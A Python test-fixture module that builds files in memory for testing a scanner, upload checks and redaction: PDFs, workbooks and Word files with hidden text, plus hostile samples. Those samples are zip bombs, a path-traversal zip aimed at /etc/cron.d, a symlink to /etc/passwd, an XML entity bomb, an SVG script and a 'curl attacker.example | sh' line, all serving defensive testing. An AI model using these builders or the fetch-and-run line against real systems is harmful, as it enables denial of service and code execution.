"""Test files built in memory, for the scanner, upload and redaction tests.

Every builder returns ``bytes``. Text goes where the arguments say, so a test can put a
value in one hiding place and check the scanner finds it there:

- ``pdf(...)``: pages of visible text, invisible text (render mode 3), white-on-white text,
  an annotation, document-info and XMP metadata, a form field, an attached file; written
  with pikepdf and Helvetica (text positions: ``PDF_TEXT_X``, ``pdf_line_y(n)``).
  ``image_pdf()`` has an image-only page (Pillow); ``encrypted_pdf()`` needs a password;
  ``malformed_pdf()`` is damaged beyond repair.
- ``xlsx(...)``: a visible sheet, a hidden and a very hidden sheet, a hidden row and a hidden
  column, a comment, a defined name, document properties (openpyxl).
- ``docx(...)``: body, comment, header, document properties (the zip written by hand);
  ``odt(...)``: an OpenDocument text.
- ``eml(...)`` / ``mbox(...)``: a message with a body and an attachment.
- ``zip_archive(members)``, ``zip_bomb()``, ``lying_zip()``, ``spread_bomb()``,
  ``overlapping_zip()``, ``nested_zip(depth)``, ``traversal_zip()``, ``encrypted_zip()``,
  ``symlink_zip()``.
- ``eicar()``, ``pe_executable()``, ``elf_executable()``, ``macho_executable()``,
  ``shell_script()``, ``windows_shortcut()``, ``msi_package()``, ``macro_docx()``.
- ``png()``, ``jpeg()``, ``mp4()``, ``old_doc()``, ``old_xls()``: headers of real formats.

SSNs and card numbers used in tests: ``SSN`` (123-45-6789), ``CARD`` (Visa test number).
"""

from __future__ import annotations

import email.message
import io
import re
import struct
import zipfile
import zlib

import openpyxl
import pikepdf
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SSN = "123-45-6789"
SSN_MASKED = "***-**-6789"
CARD = "4242 4242 4242 4242"
CARD_MASKED = "**** **** **** 4242"
EMAIL = "jane.doe@example.org"
EMAIL_MASKED = "j***@example.org"
PHONE = "(555) 234-1234"
PHONE_MASKED = "(***) ***-1234"
DOB = "DOB: 05/17/1984"
DOB_MASKED = "**/**/1984"

PDF_TEXT_X = 72
PDF_FONT_SIZE = 12
PAGE_WIDTH, PAGE_HEIGHT = 612, 792


def pdf_line_y(line: int) -> int:
    """The baseline of text line ``line`` (0-based) on a page built by ``pdf``, in PDF
    points from the bottom."""
    return 720 - 20 * line


# --- PDF ------------------------------------------------------------------------------------


def _pdf_escape(text: str) -> bytes:
    raw = text.encode("cp1252")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def _text_line(text: str, line: int, *, mode: int = 0, white: bool = False) -> bytes:
    colour = b"1 1 1 rg " if white else b"0 0 0 rg "
    return (
        b"BT "
        + colour
        + f"{mode} Tr /F1 {PDF_FONT_SIZE} Tf {PDF_TEXT_X} {pdf_line_y(line)} Td (".encode()
        + _pdf_escape(text)
        + b") Tj ET\n"
    )


def pdf(
    *pages: str | list[str],
    invisible: str = "",
    white: str = "",
    annotation: str = "",
    annotation_author: str = "",
    title: str = "",
    author: str = "",
    xmp_description: str = "",
    form_field: tuple[str, str] | None = None,
    attachment: tuple[str, bytes] | None = None,
) -> bytes:
    """A PDF whose pages hold the given text (a string, or a list of lines). The hidden
    texts go on the first page: ``invisible`` in text render mode 3, ``white`` as white text
    on the white page."""
    document = pikepdf.new()
    font = document.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Name.WinAnsiEncoding,
        )
    )
    for number, content in enumerate(pages or ("",)):
        lines = [content] if isinstance(content, str) else list(content)
        stream = b"".join(_text_line(text, i) for i, text in enumerate(lines) if text)
        if number == 0 and invisible:
            stream += _text_line(invisible, len(lines) + 1, mode=3)
        if number == 0 and white:
            stream += _text_line(white, len(lines) + 2, white=True)
        page = pikepdf.Page(
            Dictionary(
                Type=Name.Page,
                MediaBox=Array([0, 0, PAGE_WIDTH, PAGE_HEIGHT]),
                Resources=Dictionary(Font=Dictionary(F1=font)),
                Contents=document.make_stream(stream),
            )
        )
        document.pages.append(page)
    first = document.pages[0]
    if annotation:
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Text,
            Rect=Array([400, 700, 420, 720]),
            Contents=String(annotation),
        )
        if annotation_author:
            note.T = String(annotation_author)
        first.obj.Annots = document.make_indirect(Array([document.make_indirect(note)]))
    if xmp_description:  # before the document information, which pikepdf syncs from XMP
        with document.open_metadata(set_pikepdf_as_editor=False) as metadata:
            metadata["dc:description"] = xmp_description
    if title:
        document.docinfo[Name.Title] = String(title)
    if author:
        document.docinfo[Name.Author] = String(author)
    if form_field:
        name, value = form_field
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String(name),
                V=String(value),
                Rect=Array([72, 100, 300, 120]),
                P=first.obj,
            )
        )
        annots = first.obj.get("/Annots")
        if annots is None:
            first.obj.Annots = document.make_indirect(Array([field]))
        else:
            annots.append(field)
        document.Root.AcroForm = Dictionary(Fields=Array([field]))
    if attachment:
        name, data = attachment
        document.attachments[name] = pikepdf.AttachedFileSpec(document, data, filename=name)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def image_pdf(size: tuple[int, int] = (612, 792)) -> bytes:
    """A one-page PDF holding only an image (no text layer), as scanners make them."""
    image = Image.new("RGB", size, "white")
    for x in range(50, 300):
        image.putpixel((x, 100), (0, 0, 0))
    buffer = io.BytesIO()
    image.save(buffer, "PDF", resolution=72)
    return buffer.getvalue()


def encrypted_pdf(text: str = "Secret minutes", password: str = "open-sesame") -> bytes:  # noqa: S107
    """A PDF that can't be opened without its user password."""
    with pikepdf.open(io.BytesIO(pdf(text))) as document:
        buffer = io.BytesIO()
        document.save(buffer, encryption=pikepdf.Encryption(user=password, owner=password + "!"))
    return buffer.getvalue()


def malformed_pdf() -> bytes:
    """Starts like a PDF (so the upload check accepts it) but has no readable structure."""
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"1 0 obj << /Type /Catalog /Pages 9 0 R" + b"\x00" * 64
    )


# --- Spreadsheets ----------------------------------------------------------------------------


def xlsx(
    *,
    visible: str = "Nothing to see",
    hidden_sheet: str = "",
    very_hidden_sheet: str = "",
    hidden_row: str = "",
    hidden_column: str = "",
    comment: str = "",
    defined_name: str = "",
    creator: str = "",
    header_cells: dict[str, str] | None = None,
) -> bytes:
    """A workbook whose first sheet ("Summary") shows ``visible`` in A1 and hides the other
    values: ``hidden_row`` in A5 (row 5 hidden), ``hidden_column`` in D2 (column D hidden),
    ``comment`` as the comment on A1; ``hidden_sheet`` in sheet "Payroll" (hidden),
    ``very_hidden_sheet`` in sheet "Archive" (very hidden); ``header_cells`` sets other
    cells of the first sheet (e.g. {"B1": "SSN", "B2": "123456789"})."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Summary"
    sheet["A1"] = visible
    if hidden_row:
        sheet["A5"] = hidden_row
        sheet.row_dimensions[5].hidden = True
    if hidden_column:
        sheet["D2"] = hidden_column
        sheet.column_dimensions["D"].hidden = True
    if comment:
        sheet["A1"].comment = Comment(comment, "Clerk")
    for coordinate, value in (header_cells or {}).items():
        sheet[coordinate] = value
    if hidden_sheet:
        payroll = workbook.create_sheet("Payroll")
        payroll["B3"] = hidden_sheet
        payroll.sheet_state = "hidden"
    if very_hidden_sheet:
        archive = workbook.create_sheet("Archive")
        archive["C7"] = very_hidden_sheet
        archive.sheet_state = "veryHidden"
    if defined_name:
        workbook.defined_names["Contact"] = DefinedName("Contact", attr_text=f'"{defined_name}"')
    if creator:
        workbook.properties.creator = creator
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- Word -------------------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _paragraphs(texts: list[str]) -> str:
    return "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{_xml_escape(t)}</w:t></w:r></w:p>' for t in texts
    )


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def docx(
    *body: str,
    comment: str = "",
    header: str = "",
    creator: str = "",
    hidden_run: str = "",
    deleted: str = "",
    extra_parts: dict[str, bytes] | None = None,
) -> bytes:
    """A Word document: paragraphs of ``body``; ``hidden_run`` as hidden text (w:vanish),
    ``deleted`` as a tracked deletion; a ``comment``; a ``header``; ``creator`` in the
    document properties. Written as a zip by hand (content types first, as Word does)."""
    paragraphs = _paragraphs(list(body) or [""])
    if hidden_run:
        paragraphs += (
            '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t xml:space="preserve">'
            f"{_xml_escape(hidden_run)}</w:t></w:r></w:p>"
        )
    if deleted:
        paragraphs += (
            '<w:p><w:del w:id="1" w:author="Clerk" w:date="2024-01-01T00:00:00Z"><w:r>'
            f'<w:delText xml:space="preserve">{_xml_escape(deleted)}</w:delText>'
            "</w:r></w:del></w:p>"
        )
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{_W}">'
            f"<w:body>{paragraphs}</w:body></w:document>"
        ),
    }
    if comment:
        parts["word/comments.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><w:comments xmlns:w="{_W}">'
            f'<w:comment w:id="0" w:author="Clerk">{_paragraphs([comment])}</w:comment>'
            "</w:comments>"
        )
    if header:
        parts["word/header1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="{_W}">'
            f"{_paragraphs([header])}</w:hdr>"
        )
    if creator:
        parts["docProps/core.xml"] = (
            '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.'
            'openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:creator>{_xml_escape(creator)}</dc:creator></cp:coreProperties>"
        )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        for name, content in (extra_parts or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def macro_docx() -> bytes:
    """A Word document carrying a VBA project (as a .docm would)."""
    return docx("Quarterly report", extra_parts={"word/vbaProject.bin": _OLE_MAGIC + bytes(504)})


def entity_bomb_docx() -> bytes:
    """A Word document whose body declares entities (the "billion laughs")."""
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return docx("placeholder", extra_parts={"word/footnotes.xml": bomb})


def odt(*paragraphs: str, creator: str = "") -> bytes:
    """An OpenDocument text: the "mimetype" member first and stored, as the format asks."""
    text_ns = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    office_ns = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    body = "".join(f"<text:p>{_xml_escape(p)}</text:p>" for p in paragraphs)
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
        f'"{office_ns}" xmlns:text="{text_ns}"><office:body><office:text>{body}</office:text>'
        "</office:body></office:document-content>"
    )
    meta = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta xmlns:office="{office_ns}" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><office:meta>'
        f"<dc:creator>{_xml_escape(creator)}</dc:creator></office:meta></office:document-meta>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("meta.xml", meta, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


# --- Email -------------------------------------------------------------------------------------


def eml(
    *,
    body: str = "Please find the minutes attached.",
    subject: str = "Minutes",
    sender: str = "clerk@city.example.gov",
    attachment: tuple[str, bytes, str] | None = None,
    html_body: str = "",
) -> bytes:
    """A message with a text body (and an HTML alternative if given) and an optional
    attachment (file name, bytes, MIME type such as "application/pdf")."""
    message = email.message.EmailMessage()
    message["From"] = sender
    message["To"] = "records@city.example.gov"
    message["Subject"] = subject
    message["Date"] = "Mon, 06 Jan 2025 10:00:00 -0500"
    message["Message-ID"] = "<minutes-1@city.example.gov>"
    message.set_content(body)
    if html_body:
        message.add_alternative(html_body, subtype="html")
    if attachment:
        name, data, mime = attachment
        maintype, subtype = mime.split("/", 1)
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes()


def mbox(*messages: bytes) -> bytes:
    """An mbox file of the given messages."""
    out = b""
    for raw in messages:
        body = re.sub(rb"(?m)^(>*From )", rb">\1", raw.replace(b"\r\n", b"\n"))  # mboxrd
        out += b"From clerk@city.example.gov Mon Jan  6 10:00:00 2025\n" + body
        out += b"\n" if out.endswith(b"\n") else b"\n\n"
    return out


# --- Zip archives ---------------------------------------------------------------------------------


def zip_archive(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written byte by byte, each entry (name, deflated data, CRC, compressed size,
    DECLARED uncompressed size): the declared size may lie."""
    local = b""
    central = b""
    for name, data, crc, compressed, declared in entries:
        encoded = name.encode()
        offset = len(local)
        header = struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0x21,
            crc,
            compressed,
            declared,
            len(encoded),
            0,
        )
        local += header + encoded + data
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                compressed,
                declared,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(local), 0
    )
    return local + central + end


def _deflated_zeros(mebibytes: int) -> tuple[bytes, int]:
    """Raw deflate data of ``mebibytes`` MiB of zeros, and its CRC, made quickly: one MiB
    compressed once (a full flush ends it on a byte boundary with no history needed), the
    block repeated, then a final empty block."""
    block_source = bytes(1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(block_source) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = final.compress(b"") + final.flush()
    crc = 0
    block_crc = zlib.crc32(block_source)
    for _ in range(mebibytes):
        crc = zlib.crc32(block_source, crc) if crc else block_crc
    return block * mebibytes + end, crc


def zip_bomb(mebibytes: int = 1024) -> bytes:
    """One member of ``mebibytes`` MiB of zeros (1 GiB by default) in about 1 MiB: it
    declares its true size, and its ratio (~1000) gives it away."""
    data, crc = _deflated_zeros(mebibytes)
    return _raw_zip([("report.csv", data, crc, len(data), mebibytes * 1024 * 1024)])


def lying_zip(mebibytes: int = 256) -> bytes:
    """A member whose header claims 1,000 bytes while its data inflates to ``mebibytes``
    MiB: only decompressing with a cap shows the lie."""
    data, _ = _deflated_zeros(mebibytes)
    return _raw_zip([("minutes.txt", data, zlib.crc32(bytes(1000)), len(data), 1000)])


def overlapping_zip(copies: int = 50) -> bytes:
    """Many central-directory entries pointing at the same local data (the
    overlapping-file zip bomb)."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = data.compress(b"minutes " * 100) + data.flush()
    one = _raw_zip([("a.txt", payload, zlib.crc32(b"minutes " * 100), len(payload), 800)])
    local_end = one.index(b"PK\x01\x02")
    central_entry = one[local_end : one.index(b"PK\x05\x06")]
    central = b""
    for index in range(copies):  # the first keeps its name: the others overlap it
        name = b"a.txt" if index == 0 else f"{index:05d}".encode()
        central += central_entry.replace(b"a.txt", name)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(central), local_end, 0)
    return one[:local_end] + central + end


def spread_bomb(members: int = 200, kibibytes: int = 900) -> bytes:
    """Many members each under the per-file ratio threshold (1 MiB), together expanding
    about a thousand times: only the overall ratio gives it away."""
    source = bytes(kibibytes * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(source) + compressor.flush()
    crc = zlib.crc32(source)
    return _raw_zip(
        [(f"part{i:04d}.txt", data, crc, len(data), len(source)) for i in range(members)]
    )


def symlink_zip(target: str = "/etc/passwd") -> bytes:
    """A zip whose member is a Unix symbolic link."""
    info = zipfile.ZipInfo("passwords.txt")
    info.external_attr = (0o120777 << 16) | 0x20  # S_IFLNK | rwx
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, target)
    return buffer.getvalue()


def nested_zip(depth: int, inner: dict[str, bytes] | None = None) -> bytes:
    """Zips in zips: ``depth`` 1 is a plain zip of ``inner``."""
    data = zip_archive(inner or {"notes.txt": b"Council minutes"})
    for level in range(2, depth + 1):
        data = zip_archive({f"level{level - 1}.zip": data})
    return data


def traversal_zip(name: str = "../../etc/cron.d/evil") -> bytes:
    return zip_archive({"readme.txt": b"hello", name: b"* * * * * root true"})


def encrypted_zip() -> bytes:
    """A zip whose member has the "encrypted" flag (traditional PKWARE encryption)."""
    data = zip_archive({"secret.txt": b"minutes"}, compression=zipfile.ZIP_STORED)
    flagged = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = flagged.index(signature)
        flags = struct.unpack_from("<H", flagged, position + flag_offset)[0]
        struct.pack_into("<H", flagged, position + flag_offset, flags | 0x1)
    return bytes(flagged)


# --- Malware and programs ----------------------------------------------------------------------


def eicar() -> bytes:
    """The EICAR antivirus test file, built from halves so that this source file is not
    itself reported by antivirus software."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pe_executable() -> bytes:
    """The headers of a Windows program: "MZ", e_lfanew at 0x3C pointing at "PE\\0\\0"."""
    dos = bytearray(128)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x14C, 1) + bytes(2048)


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 0x3E) + bytes(1024)


def macho_executable() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x01000007, 3) + bytes(1024)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"


def windows_shortcut() -> bytes:
    return b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(
        256
    )


_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _ole(first_sector: bytes, root_class_id: bytes = bytes(16), names: tuple[str, ...] = ()):
    """An OLE2 (compound file) header: 512-byte header, ``first_sector`` at 512, the
    directory in sector 1 (offset 1024) with a root entry of class ``root_class_id`` and
    entries named ``names``."""
    header = bytearray(512)
    header[0:8] = _OLE_MAGIC
    struct.pack_into("<HH", header, 0x18, 0x3E, 3)  # minor, major version
    struct.pack_into("<HH", header, 0x1C, 0xFFFE, 9)  # byte order, sector shift (512)
    struct.pack_into("<I", header, 0x30, 1)  # first directory sector
    sector = first_sector.ljust(512, b"\x00")
    directory = bytearray()
    for index, name in enumerate(("Root Entry", *names)):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<H", entry, 0x40, len(encoded))
        entry[0x42] = 5 if index == 0 else 2
        if index == 0:
            entry[0x50:0x60] = root_class_id
        directory += entry
    return bytes(header) + sector + bytes(directory).ljust(512, b"\x00") + bytes(2048)


def old_doc(text: str = "") -> bytes:
    """The start of a Word 97-2003 document (the Word FIB signature in the first sector)."""
    return _ole(b"\xec\xa5\xc1\x00" + text.encode("cp1252"), names=("WordDocument",))


def old_xls() -> bytes:
    """The start of an Excel 97-2003 workbook (a BIFF8 BOF record in the first sector)."""
    return _ole(b"\x09\x08\x10\x00\x00\x06\x05\x00", names=("Workbook",))


def msi_package() -> bytes:
    """An OLE2 file whose root storage has the Windows Installer class id."""
    msi_class = bytes([0x84, 0x10, 0x0C, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46])
    return _ole(b"\xfd\xff\xff\xff\x00\x00\x00\x00", root_class_id=msi_class)


def macro_doc() -> bytes:
    """An old Word document with a VBA project storage."""
    return _ole(b"\xec\xa5\xc1\x00", names=("WordDocument", "Macros", "_VBA_PROJECT"))


# --- Images, audio, video ------------------------------------------------------------------------


def png(*, comment: str = "") -> bytes:
    image = Image.new("RGB", (4, 4), "white")
    buffer = io.BytesIO()
    if comment:
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", comment)
        image.save(buffer, "PNG", pnginfo=info)
    else:
        image.save(buffer, "PNG")
    return buffer.getvalue()


def jpeg(*, description: str = "") -> bytes:
    image = Image.new("RGB", (4, 4), "white")
    buffer = io.BytesIO()
    exif = Image.Exif()
    if description:
        exif[0x010E] = description  # ImageDescription
    image.save(buffer, "JPEG", exif=exif.tobytes())
    return buffer.getvalue()


def mp4() -> bytes:
    return struct.pack(">I", 24) + b"ftypmp42" + b"\x00\x00\x00\x00" + b"mp42isom" + bytes(64)


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><title>x</title></head><body>hi</body></html>\n"


def svg_image() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'
    )
